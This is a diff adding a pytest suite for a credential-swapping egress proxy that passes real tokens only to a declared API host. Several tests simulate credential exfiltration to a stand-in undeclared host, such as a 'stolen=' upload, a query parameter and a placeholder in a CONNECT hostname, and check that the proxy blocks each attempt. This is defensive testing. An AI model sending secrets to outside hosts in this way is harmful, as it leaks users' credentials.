@@ -1,0 +1,312 @@
+"""The egress proxy with real TLS: clients that hold only a placeholder call a local HTTPS API (its own host name,
+its own CA) through the proxy, and the API sees the real token; a placeholder toward any other host is blocked."""
+
+from __future__ import annotations
+
+import base64
+import json
+import logging
+import socket
+import ssl
+import threading
+import urllib.request
+from collections.abc import AsyncIterator, Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any, Literal
+
+import anyio
+import httpx2
+import pytest
+
+from mcp_credgate.egress_ca import Authority
+from mcp_credgate.egress_proxy import EgressEvent, EgressProxy
+from mcp_credgate.egress_swap import EgressRules
+
+pytestmark = [pytest.mark.no_store, pytest.mark.anyio]
+
+API = "api.example.test"
+OTHER = "elsewhere.example.test"
+REAL = "real-token-9f8e7d6c5b4a"
+PLACEHOLDER = "cgph_PLACEHOLDERPLACEHOLDER234567"
+USER_REAL = "real-user-pass-0a1b2c"
+USER_PLACEHOLDER = "cgph_USERPLACEHOLDERUSERPLACEHO"
+
+
+@dataclass
+class Api:
+    """A real HTTPS API on 127.0.0.1 serving as API (and OTHER): it answers 401 unless it is given the real token
+    (Bearer, Basic, or `?token=`), and echoes what it received."""
+
+    port: int
+    ca_file: Path
+    received: list[dict[str, Any]] = field(default_factory=list)
+
+
+@dataclass
+class PlainApi:
+    port: int
+    received: list[dict[str, Any]] = field(default_factory=list)
+
+
+def _handler(received: list[dict[str, Any]]) -> type[BaseHTTPRequestHandler]:
+    class Handler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def _any(self) -> None:
+            length = int(self.headers.get("content-length") or 0)
+            body = self.rfile.read(length).decode() if length else ""
+            seen = {"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body}
+            received.append(seen)
+            authorized = (
+                self.headers.get("authorization") == f"Bearer {REAL}"
+                or self.headers.get("authorization") == "Basic " + base64.b64encode(f"me:{USER_REAL}".encode()).decode()
+                or f"token={REAL}" in self.path
+                or REAL in body
+            )
+            answer = json.dumps({"received": seen, "token": REAL} if authorized else {"error": "no"}).encode()
+            self.send_response(200 if authorized else 401)
+            self.send_header("content-type", "application/json")
+            self.send_header("x-echo-token", REAL)
+            self.send_header("content-length", str(len(answer)))
+            self.end_headers()
+            self.wfile.write(answer)
+
+        do_GET = do_POST = _any
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    return Handler
+
+
+def _serve(server: ThreadingHTTPServer) -> Iterator[None]:
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield
+    server.shutdown()
+    server.server_close()
+    thread.join(timeout=10)
+
+
+@pytest.fixture(scope="module")
+def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
+    folder = tmp_path_factory.mktemp("api")
+    api_ca = Authority.new("the API's own CA")  # not the egress CA: the proxy must verify the API for real
+    (folder / "ca.pem").write_bytes(api_ca.certificate_pem())
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    for host in (API, OTHER):
+        chain, key = api_ca.leaf_for(host)
+        (folder / f"{host}.pem").write_bytes(chain)
+        (folder / f"{host}.key").write_bytes(key)
+    context.load_cert_chain(folder / f"{API}.pem", folder / f"{API}.key")
+    other = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    other.load_cert_chain(folder / f"{OTHER}.pem", folder / f"{OTHER}.key")
+    context.sni_callback = lambda tls, name, _: setattr(tls, "context", other) if name == OTHER else None
+    received: list[dict[str, Any]] = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(received))
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+    result = Api(server.server_address[1], folder / "ca.pem", received)
+    yield from (result for _ in _serve(server))
+
+
+@pytest.fixture(scope="module")
+def plain_api() -> Iterator[PlainApi]:
+    received: list[dict[str, Any]] = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(received))
+    yield from (PlainApi(server.server_address[1], received) for _ in _serve(server))
+
+
+@pytest.fixture(scope="module")
+def authority() -> Authority:
+    return Authority.new("test")
+
+
+@dataclass
+class Running:
+    proxy: EgressProxy
+    events: list[EgressEvent]
+    trust: ssl.SSLContext
+    trust_file: Path
+
+
+def _rules(other: Literal["deny", "tunnel"] = "deny", body_fields: frozenset[str] = frozenset()) -> EgressRules:
+    return EgressRules(
+        swaps={PLACEHOLDER: REAL, USER_PLACEHOLDER: USER_REAL},
+        hosts=frozenset({API}),
+        other=other,
+        body_fields=body_fields,
+    )
+
+
+async def _running(
+    rules: EgressRules, authority: Authority, api: Api, plain_api: PlainApi, tmp_path: Path
+) -> AsyncIterator[Running]:
+    events: list[EgressEvent] = []
+    trust_file = tmp_path / "egress-ca.pem"
+    trust_file.write_bytes(authority.certificate_pem())
+    trust = ssl.create_default_context(cafile=trust_file)
+    resolve = {API: ("127.0.0.1", api.port), OTHER: ("127.0.0.1", api.port)}
+    plain = {f"plain.{API}": ("127.0.0.1", plain_api.port), f"plain.{OTHER}": ("127.0.0.1", plain_api.port)}
+    async with EgressProxy(
+        rules, authority, on_event=events.append, upstream_ca=api.ca_file, resolve={**resolve, **plain}
+    ) as proxy:
+        yield Running(proxy, events, trust, trust_file)
+
+
+@pytest.fixture
+async def running(authority: Authority, api: Api, plain_api: PlainApi, tmp_path: Path) -> AsyncIterator[Running]:
+    rules = EgressRules(
+        swaps={PLACEHOLDER: REAL, USER_PLACEHOLDER: USER_REAL},
+        hosts=frozenset({API, f"plain.{API}"}),
+        body_fields=frozenset({"token"}),
+    )
+    async for value in _running(rules, authority, api, plain_api, tmp_path):
+        yield value
+
+
+@pytest.fixture
+async def tunnelling(authority: Authority, api: Api, plain_api: PlainApi, tmp_path: Path) -> AsyncIterator[Running]:
+    async for value in _running(_rules("tunnel"), authority, api, plain_api, tmp_path):
+        yield value
+
+
+def _client(running: Running) -> httpx2.AsyncClient:
+    return httpx2.AsyncClient(proxy=running.proxy.url, verify=running.trust, timeout=20)
+
+
+async def test_a_bearer_placeholder_reaches_the_declared_api_as_the_real_token(running: Running, api: Api) -> None:
+    async with _client(running) as client:
+        response = await client.get(f"https://{API}/v1/me", headers={"authorization": f"Bearer {PLACEHOLDER}"})
+    assert response.status_code == 200
+    assert api.received[-1]["headers"]["authorization"] == f"Bearer {REAL}"
+
+
+async def test_the_echoed_token_comes_back_to_the_client_as_the_placeholder(running: Running) -> None:
+    async with _client(running) as client:
+        response = await client.get(f"https://{API}/v1/me", headers={"authorization": f"Bearer {PLACEHOLDER}"})
+    assert REAL not in response.text
+    assert response.json()["token"] == PLACEHOLDER
+    assert response.json()["received"]["headers"]["authorization"] == f"Bearer {PLACEHOLDER}"
+    assert response.headers["x-echo-token"] == PLACEHOLDER
+    assert int(response.headers["content-length"]) == len(response.content)
+
+
+async def test_basic_authorization_is_decoded_swapped_and_encoded_again(running: Running, api: Api) -> None:
+    async with _client(running) as client:
+        response = await client.get(f"https://{API}/v1/me", auth=("me", USER_PLACEHOLDER))
+    assert response.status_code == 200
+    sent = api.received[-1]["headers"]["authorization"]
+    assert base64.b64decode(sent.removeprefix("Basic ")).decode() == f"me:{USER_REAL}"
+
+
+async def test_a_placeholder_in_the_query_string_is_swapped(running: Running, api: Api) -> None:
+    async with _client(running) as client:
+        response = await client.get(f"https://{API}/v1/search", params={"q": "a b", "token": PLACEHOLDER})
+    assert response.status_code == 200
+    assert api.received[-1]["path"] == f"/v1/search?q=a+b&token={REAL}"
+
+
+async def test_only_the_named_json_body_field_is_swapped(running: Running, api: Api) -> None:
+    async with _client(running) as client:
+        response = await client.post(f"https://{API}/v1/login", json={"token": PLACEHOLDER, "note": PLACEHOLDER})
+    assert response.status_code == 200
+    assert json.loads(api.received[-1]["body"]) == {"token": REAL, "note": PLACEHOLDER}
+
+
+async def test_a_plain_http_request_to_a_declared_host_is_swapped(running: Running, plain_api: PlainApi) -> None:
+    async with _client(running) as client:
+        response = await client.get(
+            f"http://plain.{API}:8080/v1/me", headers={"authorization": f"Bearer {PLACEHOLDER}"}
+        )
+    assert response.status_code == 200
+    assert plain_api.received[-1]["headers"]["authorization"] == f"Bearer {REAL}"
+    assert response.json()["token"] == PLACEHOLDER
+
+
+async def test_urllib_through_the_proxy_is_swapped_too(running: Running, api: Api) -> None:
+    def call() -> tuple[int, bytes]:
+        opener = urllib.request.build_opener(
+            urllib.request.ProxyHandler({"https": running.proxy.url}),
+            urllib.request.HTTPSHandler(context=running.trust),
+        )
+        request = urllib.request.Request(f"https://{API}/v1/me", headers={"Authorization": f"Bearer {PLACEHOLDER}"})
+        with opener.open(request, timeout=20) as response:
+            return response.status, response.read()
+
+    status, body = await anyio.to_thread.run_sync(call)
+    assert status == 200
+    assert api.received[-1]["headers"]["authorization"] == f"Bearer {REAL}"
+    assert REAL.encode() not in body
+
+
+async def test_a_placeholder_sent_through_connect_to_an_undeclared_host_is_blocked(running: Running) -> None:
+    for target in (f"{OTHER}:443", f"{PLACEHOLDER}.{OTHER}:443"):
+        status = await _raw_connect(running.proxy.url, target, f"x-token: {PLACEHOLDER}\r\n")
+        assert status == 403
+    assert running.events == [
+        EgressEvent("blocked_placeholder", OTHER, "header x-token"),
+        EgressEvent("blocked_placeholder", f"[placeholder].{OTHER}", "connect target"),
+    ]
+    assert all(REAL not in repr(event) and PLACEHOLDER not in repr(event) for event in running.events)
+
+
+async def test_a_placeholder_in_a_plain_request_to_an_undeclared_host_is_blocked(
+    running: Running, plain_api: PlainApi
+) -> None:
+    before = len(plain_api.received)
+    async with _client(running) as client:
+        in_body = await client.post(f"http://plain.{OTHER}/upload", content=f"stolen={PLACEHOLDER}")
+        in_query = await client.get(f"http://plain.{OTHER}/upload", params={"x": PLACEHOLDER})
+    assert (in_body.status_code, in_query.status_code) == (403, 403)
+    assert len(plain_api.received) == before
+    assert [(event.kind, event.field) for event in running.events] == [
+        ("blocked_placeholder", "body"),
+        ("blocked_placeholder", "request target"),
+    ]
+
+
+async def test_other_deny_refuses_a_connect_to_an_undeclared_host(running: Running) -> None:
+    async with _client(running) as client:
+        with pytest.raises(httpx2.ProxyError):
+            await client.get(f"https://{OTHER}/")
+    assert running.events == [EgressEvent("denied", OTHER)]
+
+
+async def test_other_tunnel_passes_a_connect_to_an_undeclared_host_unseen(tunnelling: Running, api: Api) -> None:
+    api_trust = ssl.create_default_context(cafile=api.ca_file)  # the tunnel ends at the API itself, not at us
+    async with httpx2.AsyncClient(proxy=tunnelling.proxy.url, verify=api_trust, timeout=20) as client:
+        response = await client.get(f"https://{OTHER}/", headers={"authorization": f"Bearer {REAL}"})
+    assert response.status_code == 200
+    assert tunnelling.events == []
+
+
+async def test_nothing_logged_holds_the_real_value(
+    running: Running, plain_api: PlainApi, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    async with _client(running) as client:
+        await client.get(f"https://{API}/v1/me", headers={"authorization": f"Bearer {PLACEHOLDER}"})
+        await client.get(f"http://plain.{OTHER}/", params={"x": PLACEHOLDER})
+    assert any("blocked" in record.getMessage() for record in caplog.records)
+    assert REAL not in caplog.text
+    ours = [record.getMessage() for record in caplog.records if record.name.startswith("mcp_credgate")]
+    assert ours and not any(PLACEHOLDER in message for message in ours)  # the client's own log may show it
+
+
+def test_the_rules_repr_shows_no_value() -> None:
+    rules = _rules()
+    assert REAL not in repr(rules) and PLACEHOLDER not in repr(rules)
+    assert "2 placeholders" in repr(rules)
+
+
+async def _raw_connect(proxy_url: str, target: str, extra_headers: str) -> int:
+    host, port = proxy_url.removeprefix("http://").split(":")
+
+    def call() -> int:
+        with socket.create_connection((host, int(port)), timeout=10) as sock:
+            sock.sendall(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n{extra_headers}\r\n".encode())
+            return int(sock.recv(4096).split(b" ", 2)[1])
+
+    return await anyio.to_thread.run_sync(call)
